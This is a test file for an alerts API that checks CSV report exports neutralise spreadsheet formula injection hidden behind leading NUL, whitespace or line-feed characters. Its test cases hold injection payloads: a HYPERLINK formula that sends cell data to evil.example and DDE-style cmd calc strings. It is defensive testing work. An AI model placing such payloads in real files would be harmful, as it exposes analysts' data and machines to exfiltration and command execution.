// A downloaded CSV report defuses the text a spreadsheet would run as a formula even when it hides
// behind what an import drops: a leading NUL (ASVS 5.0 1.2.10 names it) or leading white space —
// LibreOffice's and Google Sheets' "trim spaces" import options strip it and then evaluate
// `=HYPERLINK(…)`. Before (sixth attack pass), only a first character of = + - @ TAB CR was
// prefixed, so an API client's alert title " =HYPERLINK(…)" reached the analyst's sheet as is.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { testStorageDriver } from "../support/postgres.ts";
import { json, type Server, startServer } from "../support/server.ts";
import { waitForReport } from "./fixtures.ts";

let s: Server;
beforeAll(async () => {
  s = await startServer();
});
afterAll(() => s.stop());

const PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"open")';

test.each([
  ["a leading NUL", `\u0000${PAYLOAD}`],
  ["leading spaces", `  ${PAYLOAD}`],
  ["a no-break space", `\u00a0@SUM(1+1)*cmd|' /C calc'!A0`],
  ["a line feed", `\n+1+cmd|' /C calc'!A0`],
  ["an ideographic space and a tab", `\u3000\t-2+3`],
])("%s before a formula: the cell starts with '", async (_, title) => {
  const created = await s.call("POST", "/v1/alerts", { title, severity: "low", transaction_id: title });
  expect(created.status).toBe(201);
  const queued = await json(await s.call("POST", "/v1/reports", { type: "alerts", format: "csv" }));
  expect((await waitForReport(s.call, queued.id)).status).toBe("completed");
  const csv = await (await s.call("GET", `/v1/reports/${queued.id}/content`)).text();
  // transaction_id and title, side by side, each quoted when RFC 4180 asks (a comma, a quote, a line break).
  const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
  // PostgreSQL text cannot hold U+0000: it is stored as U+FFFD (docs/deployment.md), a character
  // no import strips, so the cell is text as it stands.
  const stored = testStorageDriver() === "postgres" ? title.replaceAll("\u0000", "\ufffd") : title;
  const defused = stored.startsWith("\ufffd") ? stored : `'${stored}`;
  expect(csv).toContain(`,${cell(defused)},${cell(defused)},`);
  if (defused !== stored) expect(csv).not.toContain(`,${cell(stored)},`);
});

test("text with a formula character later, and plain negative numbers, are left alone", async () => {
  const title = "Net 30 = 2% discount; -5 units";
  await s.call("POST", "/v1/alerts", { title, severity: "low", transaction_id: " INV-7" });
  const queued = await json(await s.call("POST", "/v1/reports", { type: "alerts", format: "csv" }));
  await waitForReport(s.call, queued.id);
  const csv = await (await s.call("GET", `/v1/reports/${queued.id}/content`)).text();
  expect(csv).toContain(`, INV-7,Net 30 = 2% discount; -5 units,`);
});
